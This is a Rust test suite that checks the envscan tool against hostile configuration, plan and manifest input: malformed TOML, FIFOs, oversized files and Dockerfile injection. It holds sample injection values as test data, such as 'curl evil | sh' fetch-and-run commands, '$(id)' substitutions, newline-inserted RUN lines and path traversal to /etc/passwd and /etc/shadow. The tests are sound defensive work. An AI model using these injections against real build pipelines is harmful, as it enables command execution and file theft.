//! `[tool.envscan]` and build plans as hostile input: wrong types, unknown keys, files that are
//! not files, Dockerfile injection through every value that reaches a Dockerfile.
//!
//! Invariants: a configuration that cannot be trusted stops the run (exit 2, nothing written)
//! with an error naming the key and line; an unknown key is a warning and drops nothing else;
//! no value escapes the Dockerfile's quoting (hadolint-clean, instruction lines as expected);
//! a bad plan file is an error naming the file and field, never a panic.

use std::path::Path;

use serde_json::{Value, json};

use super::harness::*;
use super::outputs::{CONDA, PLAN, lock, present};

fn pyproject(sb: &Sandbox, tool: &str) {
    sb.write("pyproject.toml", format!("[tool.envscan]\n{tool}"));
}

/// Invariant helper: the run stopped with exit 2, said `needle`, and wrote no output.
fn assert_refused(sb: &Sandbox, out: &Outcome, needle: &str) {
    out.assert_exit(2).assert_stderr_contains(needle);
    assert!(present(&sb.project).is_empty(), "outputs were written");
    sb.assert_outside_unchanged();
}

pub(super) fn mkfifo(path: &Path) {
    assert!(
        std::process::Command::new("mkfifo")
            .arg(path)
            .status()
            .unwrap()
            .success()
    );
}

fn sparse(path: &Path, len: u64) {
    std::fs::File::create(path).unwrap().set_len(len).unwrap();
}

#[test]
fn a_wrong_type_stops_the_run_and_keeps_the_private_index_from_falling_back() {
    // Regression (defect 8): `exclude = "build"` made the whole table default, the private
    // index-url was dropped, envscan asked the public index and exited 0. Invariant: exit 2
    // naming the key and its line, nothing written.
    let sb = Sandbox::new();
    pyproject(
        &sb,
        "index-url = \"http://127.0.0.1:9/private/simple\"\nexclude = \"build\"\n",
    );
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "pyproject.toml:3: [tool.envscan] exclude");
}

#[test]
fn a_mistyped_key_warns_with_line_and_suggestion_and_keeps_the_rest() {
    // Regression (defect 8): a typo must be reported with where and what was meant, and the
    // other keys (the private index, the name) still apply. Invariant: exit 0, the warning
    // names `nmae`, line 3 and `name`; the conda file has the private index.
    let sb = Sandbox::new();
    pyproject(
        &sb,
        "index-url = \"http://127.0.0.1:9/private/simple\"\nnmae = \"x\"\n",
    );
    let out = lock(&sb, &[]);
    out.assert_exit(0)
        .assert_stderr_contains("pyproject.toml:3")
        .assert_stderr_contains("did you mean `name`?");
    let conda = std::fs::read_to_string(sb.project.join(CONDA)).unwrap();
    assert!(
        conda.contains("--index-url http://127.0.0.1:9/private/simple"),
        "{conda}"
    );
}

#[test]
fn an_underscore_spelling_of_a_key_suggests_the_dashed_one() {
    // `index_url` is the pip spelling. Invariant: exit 0 (a warning), "did you mean
    // `index-url`?".
    let sb = Sandbox::new();
    pyproject(&sb, "index_url = \"http://127.0.0.1:9/simple\"\n");
    lock(&sb, &[])
        .assert_exit(0)
        .assert_stderr_contains("did you mean `index-url`?");
}

#[test]
fn tool_envscan_that_is_not_a_table_stops_the_run() {
    // `tool.envscan = 5`. Invariant: exit 2, nothing written.
    let sb = Sandbox::new();
    sb.write("pyproject.toml", "[tool]\nenvscan = 5\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "must be a table");
}

#[test]
fn invalid_toml_stops_the_run_naming_the_line() {
    // A half-written pyproject could hide the index setting. Invariant: exit 2 with the line.
    let sb = Sandbox::new();
    sb.write(
        "pyproject.toml",
        "[tool.envscan]\nindex-url = \"http://127.0.0.1:9/simple\"\nname = \n",
    );
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "pyproject.toml:3");
}

#[test]
fn a_duplicate_key_stops_the_run() {
    // Two `index-url` lines: which one applies is not for envscan to guess. Invariant: exit 2
    // naming the line of the second.
    let sb = Sandbox::new();
    pyproject(
        &sb,
        "index-url = \"http://127.0.0.1:9/a\"\nindex-url = \"http://127.0.0.1:9/b\"\n",
    );
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "pyproject.toml:3");
}

#[test]
fn a_non_utf8_pyproject_stops_the_run_naming_the_file() {
    // Invariant: exit 2, "not UTF-8", the file named.
    let sb = Sandbox::new();
    sb.write("pyproject.toml", b"[tool.envscan]\nname = \"caf\xe9\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "pyproject.toml is not UTF-8");
}

#[test]
fn a_pyproject_fifo_is_refused_at_once() {
    // Regression (defect 12): a FIFO as pyproject.toml hung envscan forever. Invariant: exit
    // 2 naming a FIFO (the watchdog would report a hang).
    let sb = Sandbox::new();
    mkfifo(&sb.project.join("pyproject.toml"));
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "FIFO");
}

#[test]
fn a_pyproject_link_to_dev_zero_is_refused_without_reading() {
    // Regression (defect 12): `pyproject.toml -> /dev/zero` read about 4 GB. Invariant: exit
    // 2 naming a character device; no rlimit signal.
    let sb = Sandbox::new();
    sb.symlink("/dev/zero", "pyproject.toml");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "character device");
}

#[test]
fn a_pyproject_over_the_cap_is_refused_without_reading() {
    // A 100 MB (sparse) pyproject.toml. Invariant: exit 2, "larger than", under a 1.5 GiB
    // address-space limit.
    let sb = Sandbox::new();
    sparse(&sb.project.join("pyproject.toml"), 100 << 20);
    let out = sb.run_limited(
        super::outputs::lock_command(&sb, &[]),
        Limits {
            address_space: 3 << 29,
            ..Limits::default()
        },
    );
    assert_refused(&sb, &out, "larger than");
}

#[test]
fn a_pyproject_link_to_a_file_outside_is_read_but_never_written() {
    // A pyproject that links out is read (it is a regular file) but the outputs still go to
    // the project. Invariant: exit 0, outside unchanged.
    let sb = Sandbox::new();
    std::fs::write(
        sb.root.join("shared.toml"),
        "[tool.envscan]\nname = \"shared\"\n",
    )
    .unwrap();
    sb.symlink("../shared.toml", "pyproject.toml");
    lock(&sb, &[]).assert_exit(0);
    let conda = std::fs::read_to_string(sb.project.join(CONDA)).unwrap();
    assert!(conda.contains("name: shared"));
    sb.assert_outside_unchanged();
}

#[test]
fn a_lock_key_of_the_wrong_type_stops_the_run() {
    // `lock = 5`. Invariant: exit 2 naming `lock`.
    let sb = Sandbox::new();
    pyproject(&sb, "lock = 5\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] lock");
}

#[test]
fn an_empty_lock_key_stops_the_run() {
    // `lock = ""` names no file. Invariant: exit 2.
    let sb = Sandbox::new();
    pyproject(&sb, "lock = \"\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] lock");
}

#[test]
fn a_negative_max_file_size_stops_the_run() {
    // `max-file-size = -1`. Invariant: exit 2 naming the key.
    let sb = Sandbox::new();
    pyproject(&sb, "max-file-size = -1\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "max-file-size");
}

#[test]
fn a_float_max_file_size_stops_the_run() {
    // `max-file-size = 1e30` (beyond any integer). Invariant: exit 2 naming the key.
    let sb = Sandbox::new();
    pyproject(&sb, "max-file-size = 1e30\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "max-file-size");
}

#[test]
fn an_integer_too_large_for_toml_stops_the_run() {
    // `max-file-size = 99999999999999999999` overflows TOML's i64. Invariant: exit 2.
    let sb = Sandbox::new();
    pyproject(&sb, "max-file-size = 99999999999999999999\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "pyproject.toml:2");
}

#[test]
fn a_list_of_the_wrong_element_type_stops_the_run() {
    // `entrypoint = ["python", 3]`. Invariant: exit 2 naming `entrypoint`.
    let sb = Sandbox::new();
    pyproject(&sb, "entrypoint = [\"python\", 3]\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "entrypoint");
}

#[test]
fn entry_point_groups_of_the_wrong_type_stop_the_run() {
    // `entry-point-groups = ["pytest11"]` (a list, not a table of host -> groups). Invariant:
    // exit 2 naming the key.
    let sb = Sandbox::new();
    pyproject(&sb, "entry-point-groups = [\"pytest11\"]\n");
    let out = lock(&sb, &[]);
    assert_refused(
        &sb,
        &out,
        "pyproject.toml:2: [tool.envscan] entry-point-groups",
    );
}

#[test]
fn an_entry_point_group_with_a_control_character_stops_the_run() {
    // Invariant: a name that would reach diagnostics and explain's output with an escape
    // sequence is refused, exit 2 naming the key.
    let sb = Sandbox::new();
    pyproject(
        &sb,
        "entry-point-groups = { tool = [\"ok\", \"bad\\u001b[2J\"] }\n",
    );
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "entry-point-groups");
}

#[test]
fn a_huge_exclude_list_is_handled_within_limits() {
    // 3,000 excludes (90 kB, under the config cap). Invariant: no panic, no rlimit signal,
    // exit 0.
    let sb = Sandbox::new();
    let globs: Vec<String> = (0..3_000).map(|i| format!("\"gen{i}/**\"")).collect();
    pyproject(&sb, &format!("exclude = [{}]\n", globs.join(",")));
    lock(&sb, &[]).assert_exit(0);
}

// ---------------------------------------------------------------- Dockerfile injection

#[test]
fn a_base_image_with_a_newline_is_refused() {
    // Regression (defect 9): `base-image = "ubuntu\nRUN id"` added an instruction. Invariant:
    // exit 2 naming `base-image`.
    let sb = Sandbox::new();
    pyproject(&sb, "base-image = \"ubuntu\\nRUN id\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "base-image");
}

#[test]
fn a_base_image_with_command_substitution_is_refused() {
    // `base-image = "x$(id)"`. Invariant: exit 2 naming `base-image`.
    let sb = Sandbox::new();
    pyproject(&sb, "base-image = \"x$(id)\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "base-image");
}

#[test]
fn a_base_image_flag_with_a_stage_name_and_continuation_is_refused() {
    // `--base-image "ubuntu AS x \\"`: a stage name and a line continuation. Invariant: exit 2
    // naming the flag.
    let sb = Sandbox::new();
    let out = lock(&sb, &["--base-image", "ubuntu AS x \\"]);
    assert_refused(&sb, &out, "--base-image");
}

#[test]
fn an_environment_name_with_command_substitution_is_refused() {
    // Regression (defect 9): `name = "x$(id)"` ran a command at build time. Invariant: exit 2
    // naming `name`.
    let sb = Sandbox::new();
    pyproject(&sb, "name = \"x$(id)\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] name");
}

#[test]
fn an_environment_name_with_backticks_is_refused() {
    // `name = "a`id`"`. Invariant: exit 2 naming `name`.
    let sb = Sandbox::new();
    pyproject(&sb, "name = \"a`id`\"\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] name");
}

/// `envscan lock` then `plan --dockerfile` for a project in a folder called `folder`; returns
/// the Dockerfile after checking it with hadolint (when the test environment has it).
fn dockerfile_for_folder(folder: &str) -> String {
    let sb = Sandbox::new();
    let project = sb.project.join(folder);
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(project.join("main.py"), "import json\n").unwrap();
    let venv = sb.venv();
    let mut cmd = sb.command(&[
        "lock",
        "--python",
        venv.to_str().unwrap(),
        "--offline",
        project.to_str().unwrap(),
    ]);
    cmd.current_dir(&project);
    sb.run_limited(cmd, Limits::default()).assert_exit(0);
    let mut cmd = sb.command(&["plan", "--dockerfile"]);
    cmd.current_dir(&project);
    let out = sb.run_limited(cmd, Limits::default());
    out.assert_exit(0);
    hadolint(&sb.root, &out.stdout);
    out.stdout
}

/// Invariant helper: hadolint finds nothing in `dockerfile`.
fn hadolint(dir: &Path, dockerfile: &str) {
    let Some(env) = crate::support::test_env() else {
        return;
    };
    let file = dir.join("Dockerfile");
    std::fs::write(&file, dockerfile).unwrap();
    let lint = std::process::Command::new(env.join("bin/hadolint"))
        .arg("--no-color")
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        lint.status.success(),
        "hadolint:\n{}{}\n{dockerfile}",
        String::from_utf8_lossy(&lint.stdout),
        String::from_utf8_lossy(&lint.stderr)
    );
}

/// Invariant helper: the Dockerfile has exactly the instructions envscan writes, in order (the
/// folder's name reaches only the `conda create` line and the PATH; nothing is copied in, as
/// the lock has no packages and the conda specs are on the command line).
fn assert_instructions(dockerfile: &str) {
    let keywords: Vec<&str> = dockerfile
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| l.split_whitespace().next().unwrap_or(""))
        .collect();
    assert_eq!(
        keywords,
        ["FROM", "RUN", "ENV", "ENV", "WORKDIR"],
        "{dockerfile}"
    );
}

#[test]
fn a_folder_name_with_a_space_gives_a_valid_environment_name() {
    // Regression (defect 9): `my proj` broke the build. Invariant: the name is `my-proj`, the
    // Dockerfile is hadolint-clean with the expected instructions.
    let dockerfile = dockerfile_for_folder("my proj");
    assert!(dockerfile.contains("--name my-proj "), "{dockerfile}");
    assert_instructions(&dockerfile);
}

#[test]
fn a_folder_named_with_command_substitution_runs_nothing_at_build_time() {
    // Regression (defect 9): a folder `x$(id)` put `$(id)` into a RUN line. Invariant: no `$(`
    // anywhere in the Dockerfile, hadolint-clean.
    let dockerfile = dockerfile_for_folder("x$(id)");
    assert!(!dockerfile.contains("$("), "{dockerfile}");
    assert_instructions(&dockerfile);
}

#[test]
fn a_folder_name_with_a_newline_quotes_and_backslashes_adds_no_instruction() {
    // A folder name holding a newline, a Dockerfile line continuation, quotes and backticks.
    // Invariant: the same instructions as for a plain name, hadolint-clean.
    let dockerfile = dockerfile_for_folder("a\nRUN id \\\n'\"`b`");
    assert_instructions(&dockerfile);
    assert!(!dockerfile.contains("RUN id"), "{dockerfile}");
}

#[test]
fn a_non_ascii_folder_name_gives_an_ascii_environment_name() {
    // `café-ünïcode`. Invariant: the Dockerfile is ASCII and hadolint-clean.
    let dockerfile = dockerfile_for_folder("caf\u{e9}-\u{fc}n\u{ef}code");
    assert!(dockerfile.is_ascii(), "{dockerfile}");
    assert_instructions(&dockerfile);
}

#[test]
fn a_variable_key_with_a_space_is_refused() {
    // `variables = { "A B" = "x" }` would set `A` and a broken `B`. Invariant: exit 2 naming
    // `variables`.
    let sb = Sandbox::new();
    pyproject(&sb, "variables = { \"A B\" = \"x\" }\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] variables");
}

#[test]
fn a_variable_key_that_smuggles_a_second_assignment_is_refused() {
    // `"PATH=/evil PYTHONPATH"` would set PATH. Invariant: exit 2 naming `variables`.
    let sb = Sandbox::new();
    pyproject(&sb, "variables = { \"PATH=/evil PYTHONPATH\" = \"x\" }\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] variables");
}

#[test]
fn a_variable_value_with_a_newline_is_refused() {
    // A newline in an ENV value starts a new instruction and cannot be quoted. Invariant:
    // exit 2 naming `variables`.
    let sb = Sandbox::new();
    pyproject(&sb, "variables = { NOTE = \"x\\nRUN id\" }\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] variables");
}

/// Undoes the Dockerfile double-quoting of an ENV value (`\"`, `\\`, `\$`).
fn unquote(text: &str) -> String {
    let inner = text
        .strip_prefix('"')
        .and_then(|t| t.strip_suffix('"'))
        .expect("a double-quoted value");
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            out.push(chars.next().expect("no dangling escape"));
        } else {
            assert!(c != '"' && c != '$', "unescaped {c:?} in {text}");
            out.push(c);
        }
    }
    out
}

#[test]
fn variable_values_with_shell_and_dockerfile_metacharacters_stay_quoted() {
    // `$(id)`, `${HOME}`, backticks, quotes, backslashes, a trailing backslash (a line
    // continuation if unquoted) and non-ASCII. Invariant: each ENV line unquotes to exactly its
    // value, hadolint-clean.
    let sb = Sandbox::new();
    let values = [
        ("A_SUBST", "$(id)"),
        ("B_VAR", "${HOME}/x"),
        ("C_TICKS", "`id`"),
        ("D_QUOTES", "it's \"q\""),
        ("E_BACKSLASH", "a\\b"),
        ("F_CONTINUATION", "x \\ y"),
        ("G_UNICODE", "caf\u{e9} \u{202e}"),
    ];
    let table: Vec<String> = values
        .iter()
        .map(|(k, v)| format!("{k} = {}", toml::Value::String(v.to_string())))
        .collect();
    pyproject(&sb, &format!("variables = {{ {} }}\n", table.join(", ")));
    lock(&sb, &[]).assert_exit(0);
    let out = sb.run(&["plan", "--dockerfile"]);
    out.assert_exit(0);
    for (key, value) in values {
        let line = out
            .stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("ENV {key}=")))
            .unwrap_or_else(|| panic!("no ENV {key}:\n{}", out.stdout));
        assert_eq!(unquote(line), value);
    }
    hadolint(&sb.root, &out.stdout);
}

#[test]
fn an_entrypoint_with_hostile_arguments_is_a_json_exec_form() {
    // Shell metacharacters, quotes and a newline in entrypoint arguments. Invariant: the
    // ENTRYPOINT line is JSON that parses back to exactly the configured list.
    let sb = Sandbox::new();
    let command = ["sh", "-c", "echo $(id) `id` \"q\" 'x' \\", "a\nRUN id"];
    let list = toml::Value::Array(
        command
            .iter()
            .map(|a| toml::Value::String(a.to_string()))
            .collect(),
    );
    pyproject(&sb, &format!("entrypoint = {list}\n"));
    lock(&sb, &[]).assert_exit(0);
    let out = sb.run(&["plan", "--dockerfile"]);
    out.assert_exit(0);
    let line = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("ENTRYPOINT "))
        .unwrap();
    let parsed: Vec<String> = serde_json::from_str(line).unwrap();
    assert_eq!(parsed, command);
    assert!(!out.stdout.lines().any(|l| l.starts_with("RUN id")));
}

// ---------------------------------------------------------------- plan files

/// A valid plan; each case spoils one thing.
fn good_plan() -> Value {
    json!({
        "schema_version": 1,
        "base_image": "condaforge/miniforge3:24.9.2-0",
        "python": "3.11.7",
        "cache_key": "0123456789abcdef".repeat(4),
        "output_set": "",
        "steps": [
            {"kind": "create_env", "file": "envscan.conda.yaml", "name": "proj",
             "channels": ["conda-forge"], "dependencies": ["python==3.11.7", "pip"]},
            {"kind": "install_lock", "file": "pylock.envscan.toml", "installer": "uv"},
            {"kind": "unpack", "source": "project", "destination": "/app"},
            {"kind": "set_env", "variables": {"PYTHONPATH": "/app"}},
            {"kind": "workdir", "path": "/app"},
            {"kind": "entrypoint", "command": ["python", "main.py"]}
        ],
        "local_sources": [],
        "warnings": []
    })
}

/// `envscan plan --dockerfile` on a plan file written as `bytes`.
fn plan_bytes(sb: &Sandbox, bytes: &[u8], extra: &[&str]) -> Outcome {
    std::fs::write(sb.project.join(PLAN), bytes).unwrap();
    let mut args = vec!["plan", "--dockerfile"];
    args.extend_from_slice(extra);
    sb.run(&args)
}

fn plan_with(sb: &Sandbox, spoil: impl FnOnce(&mut Value)) -> Outcome {
    let mut plan = good_plan();
    spoil(&mut plan);
    plan_bytes(sb, plan.to_string().as_bytes(), &[])
}

/// Invariant helper: exit 2, no Dockerfile printed, the file and field named.
fn assert_bad_plan(out: &Outcome, field: &str) {
    out.assert_exit(2)
        .assert_stderr_contains(PLAN)
        .assert_stderr_contains(field);
    assert!(out.stdout.is_empty(), "a Dockerfile was printed:\n{out}");
}

#[test]
fn the_valid_plan_of_these_cases_renders_a_hadolint_clean_dockerfile() {
    // The baseline the plan cases spoil. Invariant: exit 0, hadolint-clean.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |_| {});
    out.assert_exit(0);
    hadolint(&sb.root, &out.stdout);
}

#[test]
fn a_plan_with_a_non_ascii_cache_key_is_an_error_naming_the_field() {
    // Regression (defect 5): byte slicing panicked on a non-ASCII cache_key. Invariant: exit 2
    // naming `cache_key`, no panic.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["cache_key"] = json!("\u{e9}".repeat(20)));
    assert_bad_plan(&out, "cache_key");
}

#[test]
fn a_plan_with_a_wrong_type_names_the_field() {
    // `schema_version: "1"`. Invariant: exit 2 naming `schema_version`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["schema_version"] = json!("1"));
    assert_bad_plan(&out, "schema_version");
}

#[test]
fn a_plan_of_a_newer_schema_version_is_refused() {
    // Invariant: exit 2 naming `schema_version`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["schema_version"] = json!(2));
    assert_bad_plan(&out, "schema_version");
}

#[test]
fn a_plan_missing_its_steps_is_refused() {
    // Invariant: exit 2 saying which field is missing.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p.as_object_mut().unwrap().remove("steps");
    });
    assert_bad_plan(&out, "steps");
}

#[test]
fn a_plan_with_an_unknown_step_kind_names_the_step() {
    // `{"kind": "run", "command": "curl evil | sh"}`. Invariant: exit 2 naming `steps[0]`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p["steps"][0] = json!({"kind": "run", "command": "curl evil | sh"});
    });
    assert_bad_plan(&out, "steps[0]");
}

#[test]
fn a_plan_base_image_with_a_newline_is_refused() {
    // Invariant: exit 2 naming `base_image`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p["base_image"] = json!("ubuntu\nRUN curl evil | sh")
    });
    assert_bad_plan(&out, "base_image");
}

#[test]
fn a_plan_file_name_that_climbs_out_of_the_context_is_refused() {
    // `install_lock.file = "../../etc/passwd"`. Invariant: exit 2 naming `steps[1].file`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["steps"][1]["file"] = json!("../../etc/passwd"));
    assert_bad_plan(&out, "steps[1].file");
}

#[test]
fn a_plan_environment_name_with_a_shell_command_is_refused() {
    // `create_env.name = "x && curl evil | sh"`. Invariant: exit 2 naming `steps[0].name`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p["steps"][0]["name"] = json!("x && curl evil | sh")
    });
    assert_bad_plan(&out, "steps[0].name");
}

#[test]
fn a_plan_conda_spec_with_a_quote_and_a_command_is_refused() {
    // `dependencies = ["pip' && curl evil | sh && echo '"]`: pasted single-quoted into
    // `conda create`. Invariant: exit 2 naming `steps[0].dependencies`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p["steps"][0]["dependencies"] =
            json!(["python==3.11.7", "pip' && curl evil | sh && echo '"])
    });
    assert_bad_plan(&out, "steps[0].dependencies");
}

#[test]
fn a_plan_channel_with_credentials_or_a_space_is_refused() {
    // A channel URL holding a password, and one with `; RUN id`. Invariant: exit 2 naming
    // `steps[0].channels` for each.
    for channel in [
        "https://user:secret@conda.example/private",
        "conda-forge; RUN id",
    ] {
        let sb = Sandbox::new();
        let out = plan_with(&sb, |p| p["steps"][0]["channels"] = json!([channel]));
        assert_bad_plan(&out, "steps[0].channels");
    }
}

#[test]
fn a_plan_variable_key_with_a_newline_is_refused() {
    // `set_env` key `"A=1\nRUN id"`. Invariant: exit 2 naming `steps[3].variables`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| {
        p["steps"][3]["variables"] = json!({"A=1\nRUN id": "x"});
    });
    assert_bad_plan(&out, "steps[3].variables");
}

#[test]
fn a_plan_unpack_destination_that_is_relative_and_climbs_is_refused() {
    // `destination = "app/../.."`. Invariant: exit 2 naming `steps[2].destination`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["steps"][2]["destination"] = json!("app/../.."));
    assert_bad_plan(&out, "steps[2].destination");
}

#[test]
fn a_plan_workdir_with_a_space_and_a_variable_is_refused() {
    // `WORKDIR /app $HOME`. Invariant: exit 2 naming `steps[4].path`.
    let sb = Sandbox::new();
    let out = plan_with(&sb, |p| p["steps"][4]["path"] = json!("/app $HOME"));
    assert_bad_plan(&out, "steps[4].path");
}

#[test]
fn a_truncated_plan_names_the_line() {
    // A plan cut mid-way (a copy interrupted). Invariant: exit 2 with "line".
    let sb = Sandbox::new();
    let text = serde_json::to_string_pretty(&good_plan()).unwrap();
    let out = plan_bytes(&sb, &text.as_bytes()[..text.len() / 2], &[]);
    assert_bad_plan(&out, "line");
}

#[test]
fn a_non_utf8_plan_is_refused_naming_the_file() {
    // Invariant: exit 2, "not UTF-8".
    let sb = Sandbox::new();
    let out = plan_bytes(&sb, b"{\"schema_version\": 1, \"x\": \"\xff\"}", &[]);
    assert_bad_plan(&out, "not UTF-8");
}

#[test]
fn a_plan_fifo_is_refused_at_once() {
    // Regression (defect 12): a FIFO given to `plan` hung. Invariant: exit 2 naming a FIFO.
    let sb = Sandbox::new();
    mkfifo(&sb.project.join(PLAN));
    let out = sb.run(&["plan", "--dockerfile"]);
    out.assert_exit(2).assert_stderr_contains("FIFO");
}

#[test]
fn a_plan_link_to_dev_zero_is_refused_without_reading() {
    // Regression (defect 12): a plan linked to /dev/zero was read endlessly. Invariant: exit
    // 2 naming a character device.
    let sb = Sandbox::new();
    sb.symlink("/dev/zero", PLAN);
    let out = sb.run(&["plan", "--dockerfile"]);
    out.assert_exit(2)
        .assert_stderr_contains("character device");
}

#[test]
fn a_plan_over_the_cap_is_refused_without_reading() {
    // A 1 GB sparse plan under a 1.5 GiB address-space limit. Invariant: exit 2, "larger
    // than".
    let sb = Sandbox::new();
    sparse(&sb.project.join(PLAN), 1 << 30);
    let out = sb.run_limited(
        sb.command(&["plan", "--dockerfile"]),
        Limits {
            address_space: 3 << 29,
            ..Limits::default()
        },
    );
    out.assert_exit(2).assert_stderr_contains("larger than");
}

fn manifest_with(sb: &Sandbox, archive: &str, destination: &str) -> Outcome {
    let manifest = json!({
        "archives": [{
            "source": "project",
            "archive": archive,
            "sha256": "0".repeat(64),
            "size": 1,
            "destination": destination,
            "file_count": 1
        }]
    });
    std::fs::write(sb.project.join("manifest.json"), manifest.to_string()).unwrap();
    plan_bytes(
        sb,
        good_plan().to_string().as_bytes(),
        &["--manifest", "manifest.json"],
    )
}

#[test]
fn a_manifest_archive_name_that_climbs_out_is_refused() {
    // `archive = "../../../etc/shadow"` would `ADD` a file from outside the context.
    // Invariant: exit 2 naming the manifest and `archives[0].archive`.
    let sb = Sandbox::new();
    let out = manifest_with(&sb, "../../../etc/shadow", "/app");
    out.assert_exit(2)
        .assert_stderr_contains("manifest.json")
        .assert_stderr_contains("archives[0].archive");
}

#[test]
fn a_manifest_archive_name_with_a_newline_is_refused() {
    // `archive = "a.tar.gz /\nRUN id"`. Invariant: exit 2 naming `archives[0].archive`.
    let sb = Sandbox::new();
    let out = manifest_with(&sb, "a.tar.gz /\nRUN id", "/app");
    out.assert_exit(2)
        .assert_stderr_contains("archives[0].archive");
}

#[test]
fn an_unknown_key_holding_terminal_escapes_is_printed_escaped() {
    // `"\u001b]0;pwned\u0007\u001b[2J" = 1`: a key that would retitle and clear the terminal
    // when echoed raw. Invariant: exit 0 (a warning), no ESC or BEL byte in the output.
    let sb = Sandbox::new();
    pyproject(&sb, "\"\\u001b]0;pwned\\u0007\\u001b[2J\" = 1\n");
    let out = lock(&sb, &[]);
    out.assert_exit(0)
        .assert_stderr_contains("unknown key")
        .assert_never_says("\u{1b}")
        .assert_never_says("\u{7}");
}

#[test]
fn a_variable_value_ending_in_a_backslash_is_refused() {
    // `NOTE = 'x \'`: a line continuation to tools that do not track quotes, and hadolint
    // cannot parse it quoted. Invariant: exit 2 naming `variables`.
    let sb = Sandbox::new();
    pyproject(&sb, "variables = { NOTE = 'x \\' }\n");
    let out = lock(&sb, &[]);
    assert_refused(&sb, &out, "[tool.envscan] variables");
}
